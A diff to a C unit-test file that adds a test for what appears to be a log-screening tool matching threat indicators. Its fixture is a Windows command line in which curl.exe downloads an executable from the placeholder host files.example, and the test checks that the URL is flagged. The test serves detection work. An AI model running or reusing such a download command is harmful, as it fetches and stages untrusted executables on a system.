@@ -308,13 +308,34 @@ static void test_no_memory(void **state)
     indicators_free(indicators);
 }
 
+/* A command line of a JSON log begins with a path, and its backslashes are escaped. */
+static void test_command_line(void **state)
+{
+    struct entry_field field = {
+        .name = STR("CommandLine"),
+        .value = STR("C:\\\\Windows\\\\curl.exe http://files.example/a/b.exe -o D:\\\\x"),
+        .is_escaped = true};
+    struct entry entry = {.fields = &field, .count = 1};
+    struct indicators *indicators = load(listed);
+    struct screen *screen = make(indicators);
+    const struct screen_hit *hits;
+    size_t count = 0;
+
+    (void)state;
+    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
+    assert_int_equal(count, 1);
+    assert_true(str_is(hits[0].found, STR("http://files.example/a/b.exe")));
+    screen_free(screen);
+    indicators_free(indicators);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_values),    cmocka_unit_test(test_parts),
-        cmocka_unit_test(test_sightings), cmocka_unit_test(test_many),
-        cmocka_unit_test(test_one_kind),  cmocka_unit_test(test_networks),
-        cmocka_unit_test(test_no_memory),
+        cmocka_unit_test(test_values),       cmocka_unit_test(test_parts),
+        cmocka_unit_test(test_command_line), cmocka_unit_test(test_sightings),
+        cmocka_unit_test(test_many),         cmocka_unit_test(test_one_kind),
+        cmocka_unit_test(test_networks),     cmocka_unit_test(test_no_memory),
     };
 
     return cmocka_run_group_tests(tests, NULL, NULL);
